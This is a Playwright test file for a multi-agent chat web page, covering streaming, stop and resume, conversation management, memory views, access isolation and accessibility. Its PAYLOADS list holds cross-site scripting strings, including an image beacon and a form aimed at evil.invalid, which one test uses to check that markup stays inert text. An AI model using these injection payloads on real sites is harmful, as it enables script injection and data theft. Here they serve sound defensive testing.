@@ -1,0 +1,456 @@
+"""The page in a real browser, at a real service: ask, watch, stop, reload, come back; markup stays text."""
+
+import re
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, BrowserContext, Page, Response, Route, expect
+
+from tests.support.page import StartPage
+from tests.support.pictures import PNG
+from tests.support.service import Service, make_agent, make_config, make_token, wait_until
+
+pytestmark = pytest.mark.slow
+
+Open = Callable[..., Page]
+"""Opens the page as a user, in a browser of their own."""
+
+MOST_BYTES = 300_000
+
+expect.set_options(timeout=30_000)
+
+PAYLOADS = (
+    "<script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg onload=window.hacked=1>",
+    "<svg><script>window.hacked=1</script></svg>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<a href='javascript:window.hacked=1'>x</a>",
+    "[click](javascript:window.hacked=1)",
+    "[click](JaVaScRiPt:window.hacked=1)",
+    "[click](data:text/html,<script>window.hacked=1</script>)",
+    "![x](x' onerror='window.hacked=1)",
+    "![picture](https://evil.invalid/beacon?secret)",
+    "<style>*{display:none}</style>",
+    "<div style='position:fixed;inset:0'>x</div>",
+    "<body onload=window.hacked=1>",
+    "<math><mtext><img src=x onerror=window.hacked=1></mtext></math>",
+    "<details open ontoggle=window.hacked=1>",
+    "<form action='https://evil.invalid'><button>x</button></form>",
+    "```html\n<script>window.hacked=1</script>\n```",
+    "&lt;img src=x onerror=window.hacked=1&gt;",
+    "</textarea></div><script>window.hacked=1</script>{{window.hacked=1}}",
+)
+NOT_OURS = "script, iframe, style, object, embed, form, img, svg:not(.icon), [onerror], [onload], [style*=fixed]"
+"""Elements that no message may bring along."""
+
+
+def make_council(name: str, text: str, **script: Any) -> dict[str, Any]:
+    return make_agent(name, text, vote=[{"vote_for": "scatters", "reason": f"{name} finds it clear."}], **script)
+
+
+def make_slow(name: str) -> dict[str, Any]:
+    """Return an agent that writes for some seconds."""
+    return make_council(name, f"{name} says that air scatters. " * 5, chunk_delay=0.1, chunk_size=2)
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return tmp_path_factory.mktemp("page")
+
+
+def make_service(folder: Path) -> Service:
+    """Return a service with a quick team, and others that are slow, that ask, and that answer with markup."""
+    ask = [{"ask": "order_id", "ask_prompt": "What is the number of your order?", "text": "It left Lisbon."}]
+    evil = "\n\n".join(PAYLOADS)
+    teams: dict[str, Any] = {
+        "slow": {"agents": [make_slow("ann"), make_slow("ben")]},
+        "asking": {
+            "agents": [make_agent("tracker", "It left Lisbon.", answer=ask)],
+            "params": {"order_id": {"description": "The number of the order", "pattern": r"O-\d{5}"}},
+        },
+        "evil": {
+            "agents": [
+                make_agent("eve", evil, vote=[{"vote_for": "hacked", "reason": evil}]),
+                make_agent("mallory", evil, vote=[{"vote_for": "hacked", "reason": evil}], answer=[evil + "!"]),
+            ]
+        },
+        "broken": {"agents": [make_agent("ann", "x", answer=[{"error": "auth"}])]},
+    }
+    names: dict[str, str] = {}
+    for name, team in teams.items():
+        file = folder / f"{name}.yaml"
+        file.write_text(yaml.safe_dump(team))
+        names[name] = str(file)
+    council = [
+        make_council("ann", "Air scatters blue light more than red."),
+        make_council("ben", "The sky mirrors the sea."),
+        make_council("cleo", "Dust is blue."),
+    ]
+    limits = {"requests": 100_000, "turns_per_user": 8}
+    return Service(folder, make_config(*council, server={"teams": names, "limits": limits, "grace": 0}))
+
+
+@pytest.fixture(scope="module")
+def service(folder: Path) -> Iterator[Service]:
+    service = make_service(folder).start()
+    yield service
+    service.stop()
+
+
+@pytest.fixture
+def open_page(browser: Browser, service: Service) -> Iterator[Open]:
+    contexts: list[BrowserContext] = []
+    errors: list[str] = []
+
+    def open_as(
+        user: str, *, token: str | None = None, on_response: Callable[[Response], None] | None = None, **options: Any
+    ) -> Page:
+        contexts.append(browser.new_context(**options))
+        page = contexts[-1].new_page()
+        if on_response is not None:
+            page.on("response", on_response)
+        page.on("pageerror", lambda error: errors.append(str(error)))
+        page.goto(f"{service.url}/#token={token or make_token(user)}")
+        return page
+
+    yield open_as
+    for context in contexts:
+        context.close()
+    assert errors == []
+
+
+def ask(page: Page, question: str, team: str = "") -> None:
+    page.get_by_label("Your question").fill(question)
+    if team:
+        page.get_by_label("Team").select_option(team)
+    page.get_by_label("Your question").press("Enter")
+
+
+def final_answer(page: Page) -> Any:
+    return page.locator(".message.final:not([aria-busy])").last
+
+
+def test_agents_answer_side_by_side_and_the_winner_last(open_page: Open) -> None:
+    page = open_page("alice")
+    ask(page, "Why is the sky blue?")
+    expect(final_answer(page)).to_contain_text("Air scatters blue light")
+    expect(final_answer(page)).to_contain_text("ann")
+    page.get_by_role("button", name="How they decided").click()
+    first = page.get_by_role("region", name="Round 1").locator(".step")
+    expect(first).to_have_count(3)
+    expect(first.nth(1)).to_contain_text("The sky mirrors the sea.")
+    expect(first.nth(2)).to_be_visible()
+    places = [box for step in first.all() if (box := step.bounding_box())]
+    assert len({round(box["y"]) for box in places}) == 1
+    assert len({round(box["x"]) for box in places}) == 3
+    expect(page.locator(".ballot").nth(1)).to_contain_text("votes for ann")
+    expect(page.locator(".council")).to_contain_text("ben finds it clear.")
+    expect(page.locator(".verdict")).to_contain_text("tokens")
+    expect(page.get_by_role("navigation")).to_contain_text("Why is the sky blue?")
+    ask(page, "And at night?")
+    expect(page.locator(".turn")).to_have_count(2)
+    expect(page.locator(".turn").nth(1).locator(".final")).to_contain_text("Air scatters")
+
+
+def test_council_stays_open_when_the_turn_is_read_from_the_log(open_page: Open) -> None:
+    page = open_page("opened")
+    held: list[Route] = []
+    page.route("**/api/v1/sessions/*?limit=30", lambda route: held.append(route))
+    ask(page, "Why is the sky blue?")
+    page.get_by_role("button", name="How they decided").click()
+    expect(page.locator(".council")).to_be_visible()
+    assert len(held) == 1
+    held[0].continue_()
+    expect(final_answer(page).locator("time")).to_be_visible()
+    expect(page.locator(".council")).to_be_visible()
+
+
+def test_answers_are_seen_while_they_are_written_and_a_reload_goes_on(open_page: Open) -> None:
+    page = open_page("reload")
+    ask(page, "Why?", "slow")
+    streams = page.locator(".streaming")
+    expect(streams.nth(1)).to_contain_text("ben says")
+    length = len(streams.nth(0).inner_text())
+    wait_until(lambda: len(streams.nth(0).inner_text()) > length)
+    page.reload()
+    expect(streams.nth(0)).to_contain_text("ann says that")
+    page.get_by_role("button", name="Answer now").click()
+    expect(final_answer(page)).to_contain_text("air scatters")
+    expect(page.get_by_role("button", name="Stop")).to_have_count(0)
+
+
+def test_turn_is_stopped_and_continued(open_page: Open) -> None:
+    page = open_page("stop")
+    ask(page, "Why?", "slow")
+    expect(page.locator(".streaming").first).to_contain_text("says")
+    page.get_by_role("button", name="Stop").click()
+    expect(page.get_by_text("This turn was stopped")).to_be_visible()
+    page.get_by_role("button", name="Continue").click()
+    expect(page.locator(".streaming").first).to_contain_text("says")
+    page.get_by_role("button", name="Stop").click()
+    expect(page.get_by_text("This turn was stopped")).to_be_visible()
+
+
+def test_second_tab_shows_the_same_turn(open_page: Open) -> None:
+    page = open_page("tabs")
+    ask(page, "Why?", "slow")
+    expect(page.locator(".streaming").first).to_contain_text("says")
+    other = page.context.new_page()
+    other.goto(page.url)
+    expect(other.locator(".streaming").first).to_contain_text("ann says")
+    other.get_by_role("button", name="Answer now").click()
+    for tab in (page, other):
+        expect(final_answer(tab)).to_contain_text("air scatters")
+    ask(page, "Really?")
+    expect(other.locator(".message.user")).to_have_count(2)
+    page.get_by_role("button", name="Stop").click()
+    expect(other.get_by_text("This turn was stopped")).to_be_visible(timeout=30_000)
+
+
+def test_agents_ask_and_the_reply_goes_on(open_page: Open) -> None:
+    page = open_page("params")
+    ask(page, "Where is my order?", "asking")
+    expect(page.get_by_text("What is the number of your order?")).to_be_visible()
+    page.get_by_label("Your reply").fill("O-12345")
+    page.get_by_role("button", name="Reply").click()
+    expect(final_answer(page)).to_contain_text("It left Lisbon.")
+    page.reload()
+    expect(final_answer(page)).to_contain_text("It left Lisbon.")
+    assert "O-12345" not in page.locator("body").inner_text()
+
+
+def test_failure_is_explained_and_tried_again(open_page: Open) -> None:
+    page = open_page("broken")
+    ask(page, "Why?", "broken")
+    expect(page.get_by_text("No agent could answer.").first).to_be_visible()
+    page.get_by_role("button", name="Try again").last.click()
+    expect(page.get_by_text("No agent could answer.").first).to_be_visible()
+
+
+def test_conversation_is_renamed_exported_forked_found_and_deleted(open_page: Open) -> None:
+    page = open_page("manager")
+    ask(page, "Why is the sky blue?")
+    expect(final_answer(page)).to_be_visible()
+    actions = page.get_by_role("button", name="What to do with this conversation")
+    actions.click()
+    page.get_by_role("menuitem", name="Rename").click()
+    page.get_by_role("textbox", name="Name").fill("Colours")
+    page.get_by_role("button", name="Rename").click()
+    expect(page.get_by_role("heading", name="Colours")).to_be_visible()
+    actions.click()
+    page.get_by_role("menuitem", name="Export").click()
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Markdown").click()
+    assert "Air scatters" in download.value.path().read_text()
+    actions.click()
+    page.get_by_role("menuitem", name="Fork").click()
+    expect(page.get_by_role("heading", name="Colours (fork)")).to_be_visible()
+    links = page.locator(".list a:not(.hit)")
+    expect(links).to_have_count(2)
+    page.get_by_label("Search conversations").fill("fork")
+    expect(links).to_have_count(1)
+    page.get_by_label("Search conversations").fill("")
+    actions.click()
+    page.get_by_role("menuitem", name="Delete").click()
+    page.get_by_role("button", name="Delete").click()
+    expect(page.get_by_role("heading", name="New conversation")).to_be_visible()
+    expect(links).to_have_count(1)
+
+
+def test_files_go_with_a_question(open_page: Open, tmp_path: Path) -> None:
+    page = open_page("files")
+    (tmp_path / "notes.txt").write_text("The sky over Lisbon.")
+    page.locator("input[type=file]").set_input_files([tmp_path / "notes.txt"])
+    expect(page.get_by_text("notes.txt")).to_be_visible()
+    ask(page, "What is in it?")
+    expect(final_answer(page)).to_be_visible()
+    expect(page.locator(".message.user")).to_contain_text("The sky over Lisbon.")
+    (tmp_path / "dot.png").write_bytes(PNG)
+    page.locator("input[type=file]").set_input_files([tmp_path / "dot.png"])
+    ask(page, "What is this?")
+    expect(page.locator(".picture")).to_be_visible()
+
+
+def test_context_memory_and_figures_are_shown(open_page: Open) -> None:
+    page = open_page("views")
+    ask(page, "Why is the sky blue?")
+    expect(final_answer(page)).to_be_visible()
+    page.get_by_role("link", name="Context").click()
+    expect(page.locator(".card .shares")).to_have_count(3)
+    page.locator("summary", has_text="Messages").first.click()
+    expect(page.locator(".parts pre").nth(1)).to_contain_text("Why is the sky blue?")
+    page.get_by_role("link", name="Memory").click()
+    page.get_by_label("What to look for").fill("blue sky")
+    page.locator("form.card").get_by_role("button", name="Search").click()
+    memory = page.locator(".memory", has_text="Air scatters blue light").first
+    expect(memory).to_contain_text("it said this itself")
+    memory.get_by_role("button", name="Where it comes from").click()
+    expect(memory.locator(".sources")).to_contain_text("ann")
+    memory.get_by_role("button", name="Forget").click()
+    page.get_by_role("dialog").get_by_role("button", name="Forget").click()
+    expect(page.get_by_text("Forgotten at")).to_be_visible()
+    page.get_by_role("link", name="Figures").first.click()
+    expect(page.locator(".tile", has_text="Questions")).to_contain_text("1")
+    expect(page.get_by_role("row", name=re.compile("^ann"))).to_contain_text("100 %")
+
+
+def test_others_conversations_do_not_exist(open_page: Open) -> None:
+    owner = open_page("owner")
+    ask(owner, "A secret?")
+    expect(final_answer(owner)).to_be_visible()
+    thief = open_page("thief")
+    expect(thief.get_by_label("Your question")).to_be_visible()
+    thief.goto(owner.url)
+    expect(thief.get_by_text("There is no such conversation")).to_be_visible()
+    assert "secret" not in thief.locator("body").inner_text()
+
+
+def test_expired_token_asks_to_come_in_again(open_page: Open) -> None:
+    page = open_page("late", token=make_token("late", 2))
+    page.get_by_role("heading", name="massmem").wait_for()
+    page.get_by_label("Key or token").fill("nonsense")
+    page.get_by_role("button", name="Come in").click()
+    expect(page.get_by_text("not valid, has expired")).to_be_visible()
+    page.get_by_label("Key or token").fill(make_token("late"))
+    page.get_by_role("button", name="Come in").click()
+    ask(page, "Why?")
+    expect(final_answer(page)).to_be_visible()
+
+
+def test_killed_service_comes_back_and_the_turn_with_it(browser: Browser, tmp_path: Path) -> None:
+    service = make_service(tmp_path).start()
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.goto(f"{service.url}/#token={make_token('alice')}")
+        ask(page, "Why?", "slow")
+        expect(page.locator(".streaming").first).to_contain_text("says")
+        service.kill()
+        expect(page.get_by_text("The connection was lost")).to_be_visible()
+        service.start()
+        expect(page.locator(".streaming").first).to_contain_text("says")
+        page.get_by_role("button", name="Answer now").click()
+        expect(final_answer(page)).to_contain_text("air scatters")
+    finally:
+        context.close()
+        service.stop()
+
+
+def test_markup_stays_text_wherever_it_comes_from(open_page: Open) -> None:
+    page = open_page("evil")
+    beacons: list[str] = []
+    page.on("request", lambda request: beacons.append(request.url) if "evil.invalid" in request.url else None)
+    ask(page, "\n".join(PAYLOADS), "evil")
+    expect(final_answer(page)).to_be_visible()
+    page.get_by_role("button", name="How they decided").click()
+    expect(page.locator(".council .step").first).to_be_visible()
+    for payload in PAYLOADS:
+        assert payload.splitlines()[0] in page.locator(".message.user").inner_text()
+    assert page.locator(f".messages :is({NOT_OURS})").count() == 0
+    assert page.locator(f".list :is({NOT_OURS})").count() == 0
+    assert page.locator(".messages a:not([href^='https://']):not([href^='http://'])").count() == 0
+    page.get_by_role("link", name="Context").click()
+    expect(page.locator(".shares").first).to_be_visible()
+    page.get_by_role("link", name="Memory").click()
+    page.get_by_role("link", name="Browse").click()
+    expect(page.locator(".memory").first).to_be_visible()
+    assert page.locator(f"main :is({NOT_OURS})").count() == 0
+    assert page.evaluate("window.hacked") is None
+    assert beacons == []
+
+
+def test_page_is_small(open_page: Open) -> None:
+    answers: list[Response] = []
+    page = open_page("small", on_response=lambda answer: answers.append(answer))
+    expect(page.get_by_label("Your question")).to_be_visible()
+    for view in ("Memory", "Figures"):
+        page.get_by_role("link", name=view).first.click()
+        expect(page.get_by_role("heading", name=view).first).to_be_visible()
+    page.wait_for_load_state("networkidle")
+    sizes = {answer.url: len(answer.body()) for answer in answers if answer.status == 200}
+    assert f"{page.url.partition('#')[0]}page/memory.js" in sizes
+    assert sum(sizes.values()) < MOST_BYTES
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [400, 2000])
+def test_page_is_accessible_and_fits(open_page: Open, scheme: str, width: int) -> None:
+    page = open_page(f"axe-{scheme}-{width}", color_scheme=scheme, viewport={"width": width, "height": 900})
+    expect(page.get_by_label("Your question")).to_be_visible()
+    check_view(page, "new conversation")
+    ask(page, "Why **is** the sky blue?\n\n- a\n- b\n\n`x` [y](https://example.org)")
+    expect(final_answer(page)).to_be_visible()
+    page.get_by_role("button", name="How they decided").click()
+    expect(page.locator(".council")).to_be_visible()
+    check_view(page, "conversation")
+    address = page.url.partition("#")[2]
+    page.get_by_role("button", name="What to do with this conversation").click()
+    check_view(page, "menu")
+    page.get_by_role("menuitem", name="Rename").click()
+    check_view(page, "dialog")
+    page.keyboard.press("Escape")
+    for hash_, shown in (
+        (f"{address}/context", ".shares"), ("/memory", "form.card"), ("/memory/all", ".memory"),
+        ("/memory/figures", ".tile"), ("/figures", ".tile"),
+    ):  # fmt: skip
+        page.evaluate("hash => { location.hash = hash }", hash_)
+        expect(page.locator(shown).first).to_be_visible()
+        check_view(page, hash_)
+    page.evaluate("fetch('page/leave', {method: 'POST', headers: {'X-Massmem-Page': '1'}})")
+    page.reload()
+    expect(page.get_by_label("Key or token")).to_be_visible()
+    check_view(page, "entrance")
+
+
+def check_view(page: Page, name: str) -> None:
+    """Find nothing that axe-core objects to, and no part beyond the right edge."""
+    result = Axe().run(page)
+    problems = [(v["id"], [n["html"][:160] for n in v["nodes"][:3]]) for v in result.response["violations"]]
+    assert problems == [], (name, problems)
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), name
+
+
+def test_everything_is_reached_by_keyboard(open_page: Open) -> None:
+    page = open_page("keys", reduced_motion="reduce")
+    expect(page.get_by_label("Your question")).to_be_focused()
+    page.keyboard.type("Why?")
+    page.keyboard.press("Enter")
+    expect(final_answer(page)).to_be_visible()
+    duration = page.evaluate("getComputedStyle(document.querySelector('.turn-footer .icon')).transitionDuration")
+    assert duration == "0s"
+    page.locator("main").focus()
+    page.keyboard.press("/")
+    expect(page.get_by_label("Search conversations")).to_be_focused()
+    page.keyboard.press("Tab")
+    page.keyboard.press("?")
+    expect(page.get_by_role("dialog")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_role("dialog")).to_have_count(0)
+    page.keyboard.press("m")
+    expect(page.get_by_role("heading", name="Memory")).to_be_visible()
+    page.keyboard.press("n")
+    expect(page.get_by_label("Your question")).to_be_focused()
+
+
+def test_address_of_massmem_ui_opens_the_page_once(browser: Browser, start_page: StartPage) -> None:
+    started = start_page({"agents": [make_agent("ann", "It is blue.")]})
+    context, stranger = browser.new_context(), browser.new_context()
+    try:
+        page = context.new_page()
+        page.goto(started.address)
+        ask(page, "Why?")
+        expect(final_answer(page)).to_contain_text("It is blue.")
+        assert "token" not in page.url
+        page.reload()
+        expect(final_answer(page)).to_contain_text("It is blue.")
+        other = stranger.new_page()
+        other.goto(started.address)
+        expect(other.get_by_label("Key or token")).to_be_visible()
+    finally:
+        context.close()
+        stranger.close()
